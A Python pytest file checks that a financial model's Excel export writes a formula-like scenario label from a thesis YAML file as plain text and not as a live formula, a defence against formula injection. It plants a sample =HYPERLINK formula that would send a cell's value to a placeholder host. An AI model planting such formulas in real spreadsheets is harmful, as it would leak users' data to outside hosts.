"""Text from a thesis that starts like an Excel formula (``=HYPERLINK(...)``, ``+``, ``-``,
``@``) is written to the workbook as text: opening a report made from someone else's thesis
must not run formulas it planted in a label."""

from __future__ import annotations

from pathlib import Path

import pytest

openpyxl = pytest.importorskip("openpyxl")

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "assumptions" / "templates" / "growth-company.yaml"
PLANTED = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


def test_a_label_like_a_formula_is_written_as_text(tmp_path):
    from model.scenarios import compare

    text = EXAMPLE.read_text(encoding="utf-8")
    start = text.index("\nscenarios:\n")
    at = text.index("    label: ", start) + len("    label: ")
    end = text.index("\n", at)
    planted = PLANTED.replace('"', '\\"')
    path = tmp_path / "t.yaml"
    path.write_text(text[:at] + f'"{planted}"' + text[end:], encoding="utf-8")
    book = tmp_path / "report.xlsx"
    compare(path, n_paths=200, seed=1).to_excel(book)
    wb = openpyxl.load_workbook(book)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert PLANTED in {c.value for c in cells}
